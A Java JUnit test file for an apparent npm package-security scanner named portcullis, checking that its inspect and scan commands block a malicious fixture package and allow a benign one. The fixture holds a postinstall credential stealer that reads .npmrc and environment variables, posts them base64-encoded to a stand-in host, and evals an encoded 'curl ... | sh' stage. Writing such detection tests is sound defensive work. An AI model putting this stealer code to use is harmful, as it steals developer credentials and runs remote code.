package dev.portcullis.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.networknt.schema.JsonSchema;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion;
import dev.portcullis.engine.Environment;
import dev.portcullis.json.Json;
import dev.portcullis.testkit.FakeRegistry;
import dev.portcullis.testkit.Fixtures;
import dev.portcullis.testkit.PublishedPackages;
import dev.portcullis.testkit.TarballBuilder;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code portcullis inspect} and {@code scan --deep} end to end: real tarballs built in code, served by a registry on
 * 127.0.0.1, through the command line with an isolated environment (no user .npmrc, an empty cache, a fixed date).
 */
class InspectCliTest {
    /** A credential stealer in the style of the 2025 npm worms: install-time, reads tokens, decodes, posts, evals. */
    static final String STEALER = """
            const fs = require('fs');
            const os = require('os');
            const https = require('https');
            const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
            const env = JSON.stringify(process.env);
            const req = https.request({ hostname: 'collect.example', path: '/u', method: 'POST' });
            req.write(Buffer.from(token + env).toString('base64'));
            req.end();
            const stage2 = Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIGh0dHBzOi8vY29sbGVjdC5leGFtcGxlL3MgfCBzaCIp', 'base64').toString();
            eval(stage2);
            """;

    @TempDir
    Path work;
    private FakeRegistry registry;
    private PublishedPackages published;
    private String evilIntegrity;
    private String goodIntegrity;

    record Run(int exit, String out, String err) {
    }

    static byte[] evil() {
        return TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"evil-helper\",\"version\":\"1.0.1\","
                        + "\"scripts\":{\"postinstall\":\"node setup.js\"}}")
                .file("package/setup.js", STEALER)
                .file("package/index.js", "module.exports = () => 42;\n").build();
    }

    static byte[] good() {
        return TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"left-pad-ish\",\"version\":\"2.0.0\",\"main\":\"index.js\"}")
                .file("package/index.js", """
                        'use strict';
                        module.exports = function pad(text, length, fill = ' ') {
                          return String(text).padStart(length, fill);
                        };
                        """)
                .file("package/README.md", "# left-pad-ish\n").build();
    }

    @BeforeEach
    void setUp() throws IOException {
        published = new PublishedPackages(Files.createDirectories(work.resolve("registry")));
        registry = FakeRegistry.start(published.dir());
        evilIntegrity = published.publish("evil-helper", "1.0.1", evil());
        goodIntegrity = published.publish("left-pad-ish", "2.0.0", good());
    }

    @AfterEach
    void tearDown() {
        registry.close();
    }

    private Environment environment() {
        return new Environment(Map.of("npm_config_globalconfig", work.resolve("no-global-npmrc").toString(),
                "npm_config_userconfig", work.resolve("no-user-npmrc").toString()),
                work.resolve("home"), Clock.fixed(Instant.parse("2026-11-22T12:00:00Z"), ZoneOffset.UTC),
                work.resolve("cache"));
    }

    private Run run(String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int exit = Main.run(environment(), false, new PrintWriter(out), new PrintWriter(err), args);
        return new Run(exit, out.toString(), err.toString());
    }

    private Run inspect(String... args) {
        List<String> all = new ArrayList<>(List.of("inspect", "--registry", registry.url()));
        all.addAll(List.of(args));
        return run(all.toArray(new String[0]));
    }

    @Test
    void maliciousPackageBlocks_benignAllows() {
        Run evil = inspect("evil-helper@1.0.1");
        assertThat(evil.exit()).as(evil.err() + evil.out()).isEqualTo(1);
        assertThat(evil.out()).contains("BLOCKED  evil-helper@1.0.1").contains("setup.js:").contains("│ ")
                .contains("1 blocked, 0 to review, 0 allowed").contains("FAILED");
        Run good = inspect("left-pad-ish@2.0.0");
        assertThat(good.exit()).as(good.err() + good.out()).isEqualTo(0);
        assertThat(good.out()).contains("ALLOWED  left-pad-ish@2.0.0").contains("PASSED");
    }

    @Test
    void tgzFileAndDirectoryTargets() throws IOException {
        Path tgz = work.resolve("evil-helper-1.0.1.tgz");
        Files.write(tgz, evil());
        Path dir = Files.createDirectories(work.resolve("checkout"));
        Files.writeString(dir.resolve("package.json"), "{\"name\":\"checkout\",\"version\":\"0.1.0\"}");
        Files.writeString(dir.resolve("index.js"), "module.exports = 1;\n");
        Run result = inspect("--offline", tgz.toString(), dir.toString());
        assertThat(result.exit()).as(result.err()).isEqualTo(1);
        assertThat(result.out()).contains("BLOCKED  evil-helper@1.0.1 (" + tgz + ")")
                .contains("ALLOWED  checkout@0.1.0 (" + dir + ")");
    }

    @Test
    void jsonWithA404AmongGoodTargets_followsTheSchema() throws IOException {
        Run result = inspect("--format", "json", "left-pad-ish@2.0.0", "no-such-package@1.0.0", "evil-helper");
        assertThat(result.exit()).as("an input error outranks the verdicts").isEqualTo(2);
        assertThat(result.err()).contains("portcullis inspect: no-such-package@1.0.0: no-such-package is not in the registry");
        JsonNode json = Json.mapper().readTree(result.out());
        Path schemaFile = Fixtures.repoRoot().resolve("docs/inspect-report.schema.json");
        JsonSchema schema = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V202012)
                .getSchema(Files.readString(schemaFile, StandardCharsets.UTF_8));
        assertThat(schema.validate(json)).isEmpty();
        assertThat(json.at("/results/0/target").asText()).isEqualTo("left-pad-ish@2.0.0");
        assertThat(json.at("/results/0/verdict").asText()).isEqualTo("allow");
        assertThat(json.at("/results/1/target").asText()).isEqualTo("no-such-package@1.0.0");
        assertThat(json.at("/results/1/error").asText()).contains("(404)");
        assertThat(json.at("/results/2/target").asText()).isEqualTo("evil-helper");
        assertThat(json.at("/results/2/version").asText()).isEqualTo("1.0.1");
        assertThat(json.at("/results/2/verdict").asText()).isEqualTo("block");
        JsonNode first = json.at("/results/2/findings/0");
        assertThat(first.at("/severity").asText()).isEqualTo("critical");
        assertThat(first.at("/file").asText()).isEqualTo("setup.js");
        assertThat(first.at("/line").asInt()).isPositive();
    }

    @Test
    void sarifToFile() throws IOException {
        Path sarif = work.resolve("inspect.sarif");
        Run result = inspect("--format", "sarif", "-o", sarif.toString(), "evil-helper@1.0.1");
        assertThat(result.exit()).isEqualTo(1);
        assertThat(result.out()).isEmpty();
        JsonNode json = Json.mapper().readTree(sarif.toFile());
        assertThat(json.at("/runs/0/results/0/locations/0/physicalLocation/artifactLocation/uri").asText())
                .startsWith("evil-helper@1.0.1/setup.js");
        try (var files = Files.list(work)) {
            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".tmp"));
        }
    }

    @Test
    void policyCanRaiseReviewToFailure_andIgnoresApply() throws IOException {
        Path policy = work.resolve("strict.yml");
        Files.writeString(policy, "verdict:\n  block: critical\n  review: info\n  failOn: review\n");
        Run strict = inspect("--policy", policy.toString(), "--format", "json", "left-pad-ish@2.0.0",
                "evil-helper@1.0.1");
        JsonNode json = Json.mapper().readTree(strict.out());
        assertThat(json.at("/results/1/verdict").asText()).isEqualTo("block");
        Files.writeString(policy, "verdict:\n  block: info\n  review: info\n");
        Run everything = inspect("--policy", policy.toString(), "--format", "json", "evil-helper@1.0.1");
        assertThat(everything.exit()).as(everything.err()).isEqualTo(1);
        JsonNode findings = Json.mapper().readTree(everything.out()).at("/results/0/findings");
        StringBuilder ignores = new StringBuilder("ignore:\n");
        findings.forEach(f -> ignores.append("  - rule: ").append(f.path("rule").asText())
                .append("\n    package: evil-helper\n    reason: test fixture\n"));
        Files.writeString(policy, ignores.toString());
        Run ignored = inspect("--policy", policy.toString(), "evil-helper@1.0.1");
        assertThat(ignored.exit()).as(ignored.err() + ignored.out()).isEqualTo(0);
        assertThat(ignored.out()).contains("ALLOWED  evil-helper@1.0.1").contains("ignored by the policy");
    }

    @Test
    void usageErrors() {
        assertThat(run("inspect").exit()).isEqualTo(2);
        Run format = inspect("--format", "xml", "x@1.0.0");
        assertThat(format.exit()).isEqualTo(2);
        assertThat(format.err()).contains("unknown format 'xml'");
        Run registryUrl = run("inspect", "--registry", "not a url", "x@1.0.0");
        assertThat(registryUrl.exit()).isEqualTo(2);
        assertThat(registryUrl.err()).contains("--registry");
    }

    @Test
    void offlineWithoutCacheIsANetworkError() {
        Run result = inspect("--offline", "left-pad-ish@2.0.0");
        assertThat(result.exit()).isEqualTo(3);
        assertThat(result.err()).contains("not in the cache");
    }

    /** A package-lock.json v3 as npm writes it against the public registry. */
    private Path project() throws IOException {
        Path dir = Files.createDirectories(work.resolve("project"));
        Files.writeString(dir.resolve("package.json"), """
                {"name": "app", "version": "1.0.0",
                 "dependencies": {"evil-helper": "1.0.1", "left-pad-ish": "2.0.0", "not-published": "1.0.0"}}
                """);
        Files.writeString(dir.resolve("package-lock.json"), """
                {
                  "name": "app",
                  "version": "1.0.0",
                  "lockfileVersion": 3,
                  "requires": true,
                  "packages": {
                    "": {
                      "name": "app",
                      "version": "1.0.0",
                      "dependencies": {"evil-helper": "1.0.1", "left-pad-ish": "2.0.0", "not-published": "1.0.0"}
                    },
                    "node_modules/evil-helper": {
                      "version": "1.0.1",
                      "resolved": "https://registry.npmjs.org/evil-helper/-/evil-helper-1.0.1.tgz",
                      "integrity": "%s",
                      "hasInstallScript": true
                    },
                    "node_modules/left-pad-ish": {
                      "version": "2.0.0",
                      "resolved": "https://registry.npmjs.org/left-pad-ish/-/left-pad-ish-2.0.0.tgz",
                      "integrity": "%s"
                    },
                    "node_modules/not-published": {
                      "version": "1.0.0",
                      "resolved": "https://registry.npmjs.org/not-published/-/not-published-1.0.0.tgz",
                      "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
                    }
                  }
                }
                """.formatted(evilIntegrity, goodIntegrity));
        Files.writeString(dir.resolve(".npmrc"), "registry=" + registry.url() + "\n");
        Files.writeString(dir.resolve("portcullis.yml"), "scripts:\n  allow: [evil-helper@1.0.1]\n");
        return dir;
    }

    @Test
    void scanDeepMergesContentFindingsAndVerdicts() throws IOException {
        Path dir = project();
        Run shallow = run("scan", dir.toString());
        // the shallow scan already sees from the registry metadata that not-published is gone
        assertThat(shallow.exit()).as(shallow.err() + shallow.out()).isEqualTo(1);
        assertThat(shallow.out()).contains("meta/unpublished").contains("not-published is not in the registry")
                .doesNotContain("evil-helper@1.0.1/");
        Run offlineCold = run("scan", dir.toString(), "--deep", "--offline", "--format", "json");
        // no tarball cached: content unchecked, not an error; the metadata store kept what the shallow run read, so
        // not-published is still known to be gone offline
        assertThat(offlineCold.exit()).as(offlineCold.err()).isEqualTo(1);
        JsonNode cold = Json.mapper().readTree(offlineCold.out());
        assertThat(cold.at("/findings").toString()).contains("meta/unpublished");
        assertThat(cold.at("/deep/inspected").asInt()).isZero();
        assertThat(cold.at("/unchecked").toString()).contains("content of 3 package(s) not inspected (--deep)")
                .contains("not in the cache");
        Run deep = run("scan", dir.toString(), "--deep", "--format", "json");
        assertThat(deep.exit()).as(deep.err() + deep.out()).isEqualTo(1);
        assertThat(deep.err()).as("no progress on a non-terminal").isEmpty();
        JsonNode json = Json.mapper().readTree(deep.out());
        Path schemaFile = Fixtures.repoRoot().resolve("docs/scan-report.schema.json");
        JsonSchema schema = JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V202012)
                .getSchema(Files.readString(schemaFile, StandardCharsets.UTF_8));
        assertThat(schema.validate(json)).isEmpty();
        assertThat(json.at("/deep/inspected").asInt()).isEqualTo(2);
        assertThat(json.at("/deep/packages/0/name").asText()).isEqualTo("evil-helper");
        assertThat(json.at("/deep/packages/0/verdict").asText()).isEqualTo("block");
        assertThat(json.at("/deep/packages").size()).isEqualTo(1);
        List<String> locations = new ArrayList<>();
        json.at("/findings").forEach(f -> {
            if (f.at("/severity").asText().equals("critical")) {
                locations.add(f.at("/location/file").asText());
                assertThat(f.has("evidence")).isTrue();
            }
        });
        assertThat(locations).isNotEmpty().allMatch(l -> l.startsWith("evil-helper@1.0.1/"));
        assertThat(json.at("/unchecked").toString()).contains("not-published@1.0.0");
        Run text = run("scan", dir.toString(), "--deep", "--offline");
        assertThat(text.exit()).as("from the cache").isEqualTo(1);
        assertThat(text.out()).contains("Package content (--deep)").contains("BLOCKED  evil-helper@1.0.1")
                .contains("      │ ");
    }
}
